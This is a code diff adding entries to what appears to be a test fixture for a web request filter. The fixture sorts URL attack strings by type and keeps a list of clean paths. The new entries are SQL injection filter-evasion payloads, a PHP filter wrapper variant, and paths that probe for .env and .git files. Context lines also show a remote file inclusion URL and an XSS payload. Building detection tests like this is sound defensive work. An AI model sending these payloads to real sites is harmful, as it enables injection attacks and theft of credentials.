@@ -42,6 +42,11 @@ ATTACKS = {
         "/p?id=-7%27%20UnIoN%20aLl%20SeLeCt%20null,user()--%20-",
         "/p?id=2)%20and%20(3=3",
         "/i?n=1;waitfor%20delay%20%270:0:9%27",
+        "/p?id=1'or'1",
+        "/p?id=(1)or(1)=(1)",
+        "/p?id=1'-0-'",
+        "/p?id=1%26%261",
+        "/p?id=1%20union%23a%0aselect%201,2",
     ],
     "xss": [
         "/s?q=%22%3E%3Cvideo%20src=1%20onerror=fetch(1)%3E",
@@ -69,8 +74,9 @@ ATTACKS = {
     "file_inclusion": [
         "/?page=php://filter/convert.base64-encode/resource=index",
         "/?inc=http://192.0.2.9/s.txt?",
+        "/?page=php:%0a//filter/x",
     ],
-    "secret_file": ["/app/.env.local", "/.git/index", "/backup.tar.gz"],
+    "secret_file": ["/app/.env.local", "/.git/index", "/backup.tar.gz", "/.env%20", "/x/.env;.js"],
 }
 CLEAN = [
     "/",
